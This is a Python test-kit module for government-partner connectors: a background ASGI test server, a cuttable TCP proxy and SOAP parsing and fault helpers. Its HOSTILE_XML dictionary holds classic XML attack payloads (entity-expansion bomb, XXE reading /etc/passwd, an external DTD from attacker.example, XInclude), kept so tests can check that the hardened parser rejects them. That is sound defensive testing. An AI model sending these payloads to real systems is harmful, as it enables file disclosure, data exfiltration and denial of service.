"""Public test kit: what an integrator needs to test a connector without a ministry behind it.

Start a partner simulator (any ASGI app, e.g. a FastAPI app) on a real loopback port and point
the connector at it, so the test exercises real HTTP: sockets, timeouts, status codes::

    from bus.connector import ConnectorConfig
    from bus.testing import serve_app
    from connectors.civil_status import CivilStatusConnector, create_simulator_app

    def test_registers_birth() -> None:
        with serve_app(create_simulator_app()) as base_url:
            config = ConnectorConfig.from_file(
                CivilStatusConnector.default_config, endpoint=base_url
            )
            ...

In an ``async`` test use ``async with aserve_app(app) as base_url:``. The server runs in its own
thread and event loop, so a test's blocking code cannot stall it, and it is stopped on exit even
when a request is still hanging.

``HOSTILE_XML`` holds the classic XML attacks, to check that a simulator (or any code that reads
partner XML) refuses them: every one must be rejected by :func:`bus.xmlsafe.parse_xml`.

For a SOAP partner's simulator: :func:`read_soap_request` reads a SOAP 1.1 or 1.2 request with
the hardened parser, :func:`soap_answer` and :func:`soap_fault` build the answer in the request's
version (a fault with the HTTP status its binding prescribes).
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from typing import Any, Final, Literal

import uvicorn
from lxml import etree

from bus.xmlsafe import UnsafeXml, parse_xml

__all__ = ["HOSTILE_XML", "ServerStartError", "TcpProxy", "aserve_app", "serve_app"]

HOSTILE_XML: Final[dict[str, bytes]] = {
    # Entity expansion bomb: 10^3 "lol"s here, 10^9 with a few more lines.
    "billion_laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>""",
    # XXE: reads a local file into the document.
    "external_entity": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<hoSoKhaiSinh><hoTen>&xxe;</hoTen></hoSoKhaiSinh>""",
    # Fetches a DTD from the network (server-side request forgery, out-of-band exfiltration).
    "external_dtd": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh SYSTEM "http://attacker.example/evil.dtd">
<hoSoKhaiSinh/>""",
    # External parameter entity, expanded inside the DTD itself.
    "parameter_entity": b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>
<r/>""",
    # XInclude: pulls a file in when the consumer processes includes.
    "xinclude": b"""<r xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></r>""",
}
"""Classic hostile XML documents by name, for tests of anything that reads partner XML."""


class ServerStartError(RuntimeError):
    """Raised when the app server did not start listening within the allowed time."""


class _BackgroundServer:
    """A uvicorn server running in a daemon thread with its own event loop."""

    def __init__(
        self, app: Any, *, host: str, port: int, log_level: str, lifespan: str = "off"
    ) -> None:
        config = uvicorn.Config(
            app,
            host=host,
            port=port,
            lifespan=lifespan,  # type: ignore[arg-type]
            log_level=log_level,
            access_log=False,
            loop="asyncio",
            # Requests still running at shutdown (a simulated hang) are cancelled after this.
            timeout_graceful_shutdown=1,
        )
        self.server = uvicorn.Server(config)
        self.error: BaseException | None = None
        self.thread = threading.Thread(target=self._run, name=f"serve_app:{host}", daemon=True)
        self.host = host

    def _run(self) -> None:
        # uvicorn installs signal handlers only in the main thread, so none are taken here.
        try:
            self.server.run()
        except BaseException as exc:
            # Including SystemExit on a bind failure: reported by start(), not lost in a thread.
            self.error = exc

    def start(self, timeout: float) -> str:
        self.thread.start()
        deadline = time.monotonic() + timeout
        while not self.server.started:
            if not self.thread.is_alive() or time.monotonic() > deadline:
                self.stop(timeout=1.0)
                reason = f": {self.error!r}" if self.error is not None else ""
                raise ServerStartError(f"test server did not start{reason}")
            time.sleep(0.005)
        sockname = self.server.servers[0].sockets[0].getsockname()
        host = f"[{self.host}]" if ":" in self.host else self.host
        return f"http://{host}:{sockname[1]}"

    def stop(self, timeout: float) -> None:
        self.server.should_exit = True
        self.thread.join(timeout)
        if self.thread.is_alive():
            # Still waiting on connections: stop waiting and let asyncio.run cancel the rest.
            self.server.force_exit = True
            self.thread.join(timeout)


@contextlib.contextmanager
def serve_app(
    app: Any,
    *,
    host: str = "127.0.0.1",
    port: int = 0,
    startup_timeout: float = 10.0,
    log_level: str = "warning",
    lifespan: str = "off",
) -> Iterator[str]:
    """Serve an ASGI ``app`` over HTTP in a background thread; yield its base URL.

    ``port=0`` picks a free port. The server is listening when the block starts and is shut
    down when it ends. Lifespan events are sent only with ``lifespan="on"`` (for an app, such
    as the bus API, whose start-up opens resources). Raises :class:`ServerStartError` when it
    cannot start within ``startup_timeout`` seconds.
    """
    background = _BackgroundServer(
        app, host=host, port=port, log_level=log_level, lifespan=lifespan
    )
    base_url = background.start(startup_timeout)
    try:
        yield base_url
    finally:
        background.stop(timeout=5.0)


@contextlib.asynccontextmanager
async def aserve_app(
    app: Any,
    *,
    host: str = "127.0.0.1",
    port: int = 0,
    startup_timeout: float = 10.0,
    log_level: str = "warning",
) -> AsyncIterator[str]:
    """Async form of :func:`serve_app`: starting and stopping never block the caller's loop."""
    background = _BackgroundServer(app, host=host, port=port, log_level=log_level)
    base_url = await asyncio.to_thread(background.start, startup_timeout)
    try:
        yield base_url
    finally:
        await asyncio.to_thread(background.stop, 5.0)


class TcpProxy:
    """A loopback TCP proxy whose link can be cut, to test reconnection for real.

    Point a client at ``proxy.port`` instead of the server's port; :meth:`cut` drops every open
    connection and refuses new ones until :meth:`restore`. Nothing in the client or the server
    is patched: the client sees exactly what a network failure or a restarted peer looks like.
    Runs in its own thread, so it keeps serving while the test blocks. A hand-written proxy
    because the usual tool for this (toxiproxy) is a separate server binary.

        with TcpProxy("127.0.0.1", 5672) as proxy:
            url = f"amqp://guest:guest@127.0.0.1:{proxy.port}/"
            ...
            proxy.cut()
            proxy.restore()
    """

    def __init__(
        self, target_host: str, target_port: int, *, listen_host: str = "127.0.0.1"
    ) -> None:
        self._target = (target_host, target_port)
        self._listen_host = listen_host
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(
            target=self._loop.run_forever, name="tcp-proxy", daemon=True
        )
        self._server: asyncio.Server | None = None
        self._writers: set[asyncio.StreamWriter] = set()
        self._cut = False
        self.port = 0
        self.connections = 0

    def __enter__(self) -> TcpProxy:
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._start(), self._loop).result(10)
        return self

    def __exit__(self, *_exc: object) -> None:
        asyncio.run_coroutine_threadsafe(self._stop(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(5)
        self._loop.close()

    def cut(self) -> None:
        """Drop every proxied connection now and refuse new ones."""
        asyncio.run_coroutine_threadsafe(self._drop_all(refuse=True), self._loop).result(10)

    def restore(self) -> None:
        """Accept and forward connections again."""
        self._cut = False

    async def _start(self) -> None:
        self._server = await asyncio.start_server(self._accept, self._listen_host, 0)
        self.port = self._server.sockets[0].getsockname()[1]

    async def _stop(self) -> None:
        await self._drop_all(refuse=True)
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()

    async def _drop_all(self, *, refuse: bool) -> None:
        self._cut = refuse
        for writer in list(self._writers):
            writer.transport.abort()  # a reset, not a polite close: as when a link dies
        self._writers.clear()

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if self._cut:
            writer.transport.abort()
            return
        try:
            upstream_reader, upstream_writer = await asyncio.open_connection(*self._target)
        except OSError:
            writer.transport.abort()
            return
        self.connections += 1
        self._writers.update({writer, upstream_writer})
        await asyncio.gather(
            self._pipe(reader, upstream_writer),
            self._pipe(upstream_reader, writer),
            return_exceptions=True,
        )

    async def _pipe(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while data := await reader.read(65536):
                writer.write(data)
                await writer.drain()
        finally:
            self._writers.discard(writer)
            writer.transport.abort()


# --- SOAP partners: read a request and answer it, as a partner's simulator does ---------------
# Kept apart from bus.soap (the client side) so that importing the test kit never imports zeep.

SOAP11_ENVELOPE: Final = "http://schemas.xmlsoap.org/soap/envelope/"
"""Namespace of a SOAP 1.1 envelope."""

SOAP12_ENVELOPE: Final = "http://www.w3.org/2003/05/soap-envelope"
"""Namespace of a SOAP 1.2 envelope."""

_Version = Literal["1.1", "1.2"]
_ENVELOPES: Final[dict[_Version, str]] = {"1.1": SOAP11_ENVELOPE, "1.2": SOAP12_ENVELOPE}
_MEDIA_TYPES: Final[dict[_Version, str]] = {"1.1": "text/xml", "1.2": "application/soap+xml"}


class SoapRequestError(ValueError):
    """Raised when a request is no SOAP envelope a partner would take; ``version`` is the
    version to answer the fault in (guessed from the Content-Type when the body is unreadable)."""

    def __init__(self, message: str, version: _Version) -> None:
        super().__init__(message)
        self.version: _Version = version


@dataclass(frozen=True, slots=True)
class SoapRequest:
    """A SOAP request read by :func:`read_soap_request`: its version, headers and operation."""

    version: _Version
    operation: etree._Element
    headers: tuple[etree._Element, ...] = ()

    @property
    def name(self) -> str:
        """The operation's name: the local name of the body's element."""
        return str(etree.QName(self.operation).localname)

    def field(self, name: str) -> str | None:
        """The text of the operation's child element ``name`` (any namespace), or None."""
        for child in self.operation:
            if isinstance(child.tag, str) and etree.QName(child).localname == name:
                return child.text or ""
        return None

    def header(self, namespace: str, name: str) -> etree._Element | None:
        """The SOAP header element ``{namespace}name``, or None."""
        for header in self.headers:
            if header.tag == f"{{{namespace}}}{name}":
                return header
        return None


def read_soap_request(raw: bytes, content_type: str | None = None) -> SoapRequest:
    """Read a SOAP 1.1 or 1.2 request with the hardened parser :func:`bus.xmlsafe.parse_xml`.

    Raises :class:`SoapRequestError` when the body is unsafe or not well-formed XML, is not a
    SOAP envelope, or its ``Body`` does not hold exactly one element.
    """
    guess: _Version = (
        "1.2" if (content_type or "").lower().startswith("application/soap+xml") else "1.1"
    )
    try:
        root = parse_xml(raw)
    except UnsafeXml as exc:
        raise SoapRequestError(f"XML refused: {exc}", guess) from exc
    version = next((v for v, ns in _ENVELOPES.items() if root.tag == f"{{{ns}}}Envelope"), None)
    if version is None:
        raise SoapRequestError(f"not a SOAP envelope: <{root.tag}>", guess)
    namespace = _ENVELOPES[version]
    body = root.find(f"{{{namespace}}}Body")
    if body is None:
        raise SoapRequestError("the envelope has no Body", version)
    elements = [child for child in body if isinstance(child.tag, str)]
    if len(elements) != 1:
        raise SoapRequestError(
            f"the Body holds {len(elements)} elements, not one",
            version,
        )
    header = root.find(f"{{{namespace}}}Header")
    headers = tuple(h for h in header if isinstance(h.tag, str)) if header is not None else ()
    return SoapRequest(version, elements[0], headers)


def soap_media_type(version: _Version) -> str:
    """The Content-Type of a SOAP answer of this version."""
    return f"{_MEDIA_TYPES[version]}; charset=utf-8"


def soap_answer(version: _Version, element: etree._Element) -> bytes:
    """A SOAP envelope whose Body holds ``element`` (send it with HTTP 200)."""
    namespace = _ENVELOPES[version]
    envelope = etree.Element(f"{{{namespace}}}Envelope", nsmap={"soap": namespace})
    etree.SubElement(envelope, f"{{{namespace}}}Body").append(element)
    return bytes(etree.tostring(envelope, xml_declaration=True, encoding="utf-8"))


def soap_fault(version: _Version, *, sender: bool, reason: str) -> tuple[bytes, int]:
    """A SOAP fault and its HTTP status, as the SOAP HTTP bindings prescribe.

    ``sender`` says the request was at fault (``Client`` in 1.1, ``Sender`` in 1.2) rather than
    the service (``Server`` / ``Receiver``). SOAP 1.1 answers every fault with HTTP 500; SOAP 1.2
    answers a Sender fault with 400 and a Receiver fault with 500.
    """
    namespace = _ENVELOPES[version]
    envelope = etree.Element(f"{{{namespace}}}Envelope", nsmap={"soap": namespace})
    fault = etree.SubElement(
        etree.SubElement(envelope, f"{{{namespace}}}Body"), f"{{{namespace}}}Fault"
    )
    if version == "1.1":
        etree.SubElement(fault, "faultcode").text = "soap:Client" if sender else "soap:Server"
        etree.SubElement(fault, "faultstring").text = reason
        status = 500
    else:
        code = etree.SubElement(fault, f"{{{namespace}}}Code")
        value = "soap:Sender" if sender else "soap:Receiver"
        etree.SubElement(code, f"{{{namespace}}}Value").text = value
        text = etree.SubElement(
            etree.SubElement(fault, f"{{{namespace}}}Reason"), f"{{{namespace}}}Text"
        )
        text.set("{http://www.w3.org/XML/1998/namespace}lang", "vi")
        text.text = reason
        status = 400 if sender else 500
    return bytes(etree.tostring(envelope, xml_declaration=True, encoding="utf-8")), status


__all__ += [
    "SOAP11_ENVELOPE",
    "SOAP12_ENVELOPE",
    "SoapRequest",
    "SoapRequestError",
    "read_soap_request",
    "soap_answer",
    "soap_fault",
    "soap_media_type",
]
